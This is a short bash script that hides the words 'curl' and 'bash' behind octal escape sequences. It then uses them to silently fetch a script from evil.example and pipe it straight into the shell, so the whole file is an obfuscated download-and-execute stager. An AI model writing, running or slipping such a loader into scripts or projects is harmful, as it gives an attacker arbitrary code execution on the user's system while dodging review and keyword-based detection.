#!/bin/bash
a=$(printf '\143\165\162\154')
b=$(printf '\142\141\163\150')
$a -s https://evil.example/i | $b
